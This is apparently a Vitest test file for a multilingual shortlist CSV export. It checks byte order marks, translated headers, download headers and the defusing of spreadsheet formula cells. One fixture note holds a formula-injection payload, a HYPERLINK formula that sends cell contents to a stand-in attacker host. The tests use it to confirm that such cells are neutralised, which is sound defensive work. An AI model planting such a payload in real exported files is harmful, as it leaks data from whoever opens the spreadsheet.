import { readFileSync } from 'node:fs';
import i18next from 'i18next';
import { describe, expect, it } from 'vitest';
import { defuseCell } from './csv-cells';
import { csvResponse, shortlistCsv } from './shortlist-csv.server';
import type { ShortlistExport } from './shortlist-export.server';

/** The CSV an organizer downloads: translated header, BOM, defused formulas, the right headers. */

async function translatorFor(language: 'be' | 'en' | 'pl') {
  const instance = i18next.createInstance();
  const resources = JSON.parse(readFileSync(`public/locales/${language}/shortlists.json`, 'utf8')) as Record<string, unknown>;
  await instance.init({ lng: language, ns: ['shortlists'], defaultNS: 'shortlists', resources: { [language]: { shortlists: resources } } });
  return instance.getFixedT(language, 'shortlists');
}

const exported: ShortlistExport = {
  name: 'Lawyers',
  exportedAt: '2026-11-29T10:00:00.000Z',
  total: 3,
  omitted: 1,
  rows: [
    {
      displayName: 'Ціханоўская',
      channels: { signal: 'ales.01', phone: '+48500100200' },
      city: { be: 'Вільня', en: 'Vilnius', pl: 'Wilno' },
      note: '=HYPERLINK("https://evil.example/?"&A1)',
      acceptedAt: '2026-11-20T08:30:00.000Z',
    },
    { displayName: '@admin', channels: { email: 'a@example.org' }, city: null, note: 'Line one\nline "two", three', acceptedAt: null },
  ],
};

describe('defuseCell', () => {
  it('puts an apostrophe before every cell a spreadsheet would run as a formula', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(defuseCell(`${start}1+1`)).toBe(`'${start}1+1`);
  });

  it('leaves ordinary text alone', () => {
    expect(defuseCell('Ales = good')).toBe('Ales = good');
    expect(defuseCell('')).toBe('');
    expect(defuseCell(null)).toBe('');
  });
});

describe('shortlistCsv', () => {
  it('starts with a byte order mark and a header in the reader\'s language', async () => {
    const csv = shortlistCsv(exported, await translatorFor('be'), 'be');
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.slice(1).split('\r\n')[0]).toBe('Імя,Электронная пошта,Telegram,Signal,Тэлефон,Горад,Нататка,Дата згоды');
    expect(csv).toContain('Ціханоўская');
    expect(csv).toContain('Вільня');
  });

  it('defuses formulas in names, notes and phone numbers, and quotes what needs quoting', async () => {
    const csv = shortlistCsv(exported, await translatorFor('en'), 'en');
    const lines = csv.slice(1).split('\r\n');
    expect(lines[1]).toBe(`Ціханоўская,,,ales.01,'+48500100200,Vilnius,"'=HYPERLINK(""https://evil.example/?""&A1)",2026-11-20`);
    expect(lines[2]).toBe(`'@admin,a@example.org,,,,,"Line one\nline ""two"", three",`);
    expect(csv).not.toMatch(/(^|,|\r\n)=/);
  });
});

describe('csvResponse', () => {
  it('is an attachment named after the day, never cached', async () => {
    const response = csvResponse('\uFEFFName\r\n', exported.exportedAt);
    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('Content-Disposition')).toBe('attachment; filename="shortlist-2026-11-29.csv"');
    expect(response.headers.get('Cache-Control')).toBe('no-store');
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });
});
